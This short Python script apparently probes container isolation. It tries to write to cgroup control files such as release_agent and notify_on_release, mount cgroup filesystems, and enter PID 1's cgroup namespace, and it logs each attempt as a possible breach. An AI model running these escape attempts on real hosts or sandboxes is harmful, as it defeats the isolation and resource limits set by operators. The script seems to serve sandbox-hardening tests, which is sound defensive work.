"""Reach the control groups that hold the job: to leave them, to widen them, to have a program of one's own started as root."""

import glob
import os

from attack import call, tried

print("shown", open("/proc/self/cgroup").read().split())
for path in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/unified", "/proc/1/root/sys/fs/cgroup", "/sys"):
    tried(path, lambda path=path: os.listdir(path), breach=bool)
for name in (
    "release_agent",
    "cgroup.procs",
    "memory.max",
    "memory.limit_in_bytes",
    "pids.max",
    "notify_on_release",
    "cgroup.subtree_control",
):
    for path in glob.glob(f"/sys/fs/cgroup/**/{name}", recursive=True):
        tried(path, lambda path=path: open(path, "w").write("1"))
os.makedirs("/tmp/groups", exist_ok=True)
for kind in (b"cgroup", b"cgroup2"):
    for options in (b"memory", b"rdma", b"pids", b"none,name=owned", 0):
        tried(f"mount {kind} {options}", lambda k=kind, o=options: call("mount", b"none", b"/tmp/groups", k, 0, o))
tried("own namespace", lambda: call("unshare", 0x02000000))
tried("that of process 1", lambda: call("setns", os.open("/proc/1/ns/cgroup", os.O_RDONLY), 0))
print("done")
